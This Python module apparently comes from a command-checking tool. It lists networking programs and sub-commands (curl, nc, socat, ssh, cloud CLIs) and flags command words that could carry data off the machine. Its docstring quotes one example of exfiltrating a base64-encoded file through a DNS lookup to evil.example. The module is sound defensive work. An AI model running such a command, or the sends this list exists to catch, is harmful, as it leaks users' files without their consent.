"""What leaves this machine must stand in the command: a host, a path, a query, a header, a name that is looked up.

A word that only data decide can carry a file out (`dig $(base64 f).evil.example`). It is asked about for every program
below, whatever its row makes of its words, and for every option whose row says `sends`.
"""

from __future__ import annotations

from askfirst.model import Read, Sends, Unknown

TYPE_CHECKING = False
if TYPE_CHECKING:
    from askfirst.model import Fact, Word
    from askfirst.shell.call import Analyst, Call, Outcome

__all__ = [
    "TO_ADDRESS",
    "TO_SETTINGS",
    "files_behind",
    "is_address",
    "is_plain_pattern",
    "sends",
    "sent_fact",
    "with_sending",
]


# Program -> the sub-commands that send what they are given; `*` is all of them.
TO_ADDRESS: dict[str, str] = {
    **dict.fromkeys(
        "curl wget ping ping6 traceroute traceroute6 tracepath mtr dig nslookup host whois getent arp ssh slogin mosh "
        "autossh scp sftp ssh-copy-id sshfs rsync nc ncat netcat socat telnet ftp lftp aria2c yt-dlp http https xh "
        "tftp nmap ssh-keyscan psql mysql mariadb sqlcmd redis-cli mongosh pg_isready".split(),
        "*",
    ),
    "openssl": "s_client",
    "scutil": "-r",
    "deno": "info doc check lint test",
    "git": "fetch ls-remote pull push clone remote submodule",
}
TO_SETTINGS: dict[str, str] = {
    **dict.fromkeys(
        "gh glab hub aws gcloud az flyctl fly heroku vercel netlify firebase wrangler railway serverless sls amplify "
        "doctl linode-cli hcloud supabase surge eb sam copilot now gsutil bq rclone s3cmd kubectl oc k3s-kubectl helm "
        "argocd flux istioctl talosctl eksctl pulumi auth0 tldr".split(),
        "*",
    ),
    **dict.fromkeys(
        ("npm", "yarn", "pnpm", "bun"),
        "view v info show search s se find outdated ping audit owner dist-tag access whoami doctor diff stars npm pm",
    ),
    "pip": "index search download",
    **dict.fromkeys(("poetry", "conda", "mamba", "pod"), "search"),
    "cargo": "search info audit outdated",
    "go": "list",
    "gem": "list info search query outdated specification dependency",
    "bundle": "outdated",
    "composer": "show info outdated audit search",
    "mix": "hex.info hex.outdated",
    "brew": "info search desc cat home fetch formula tap-info log which-formula outdated",
    "ansible-galaxy": "search info role collection",
    **dict.fromkeys(("docker", "podman"), "search manifest buildx pull push"),
    **dict.fromkeys(("terraform", "tofu"), "plan providers"),
}


def plain_key(key: tuple[str, ...]) -> tuple[str, ...]:
    """`python3 -m pip index` and `pip3.12 index` are `pip index`."""
    if key[1:2] == ("-m",) and key[0].startswith("python"):
        key = key[2:]
    return ("pip", *key[1:]) if key[:1] and key[0].startswith("pip3") else key


def sends(key: tuple[str, ...]) -> Sends:
    """To whom an action sends what it is given, by the words that name it."""
    program, verb = (*plain_key(key), "", "")[:2]
    for table, kind in ((TO_ADDRESS, Sends.ADDRESS), (TO_SETTINGS, Sends.SETTINGS)):
        verbs = table.get(program, "").split()
        if verbs == ["*"] or verb in verbs:
            return kind
    return Sends.NOTHING


def with_sending(outcome: Outcome, call: Call) -> Outcome:
    """The outcome of a call, with what it sends."""
    kind = max(sends(outcome.action.key), outcome.action.sends)
    if kind == Sends.NOTHING:
        return outcome
    said = {f.text for f in outcome.facts if isinstance(f, Unknown)}
    # What asks anyway is shown to a person with all its words.
    words = [w for w in call.words[1:] if w.text not in said] if outcome.action.allowed else []
    facts = [f for w in words for f in sent_fact(w, call, call.name)]
    return outcome.replace(action=outcome.action.replace(sends=kind), facts=(*outcome.facts, *facts))


def sent_fact(word: Word, call: Call, by: str) -> list[Fact]:
    if word.value is not None or is_plain_pattern(word):
        return []
    words = tuple(w.value if w.value is not None else w.text for w in call.words)
    why = f"`{by}`: `{word.text}` is not in the command, and can carry data out"
    return [Unknown("network", why, word.text, words)]


def is_plain_pattern(word: Word) -> bool:
    """`localhost:3000/api?x=1` without quotes: whatever file the `?` could match, the machine stays the same."""
    rest = word.prefix.partition("://")[2] or word.prefix
    return word.glob and "/" in rest and not any(c in word.text for c in "$`~{<(\"'\\")


def is_address(word: Word) -> bool:
    """Whether a program that reads files may take a word for an address: `openssl x509 -in http://h/x`."""
    known = word.value if word.value is not None else word.prefix
    scheme, separator, _ = known.partition("://")
    return bool(separator) and scheme.isalnum() and scheme.lower() != "file"


def files_behind(call: Call, analyst: Analyst) -> list[Fact]:
    """`@FILE`, `name=@FILE`: many programs take a file's content for a word of that form."""
    found = []
    for word in call.words[1:]:
        text = word.value or ""
        at = 0 if text.startswith("@") else text.find("=@") + 1
        if len(text) > at + 1 and (at or text.startswith("@")):
            found.append(Read(analyst.path(text[at + 1 :], call.cwd), word.text, call.name))
    return list(found)
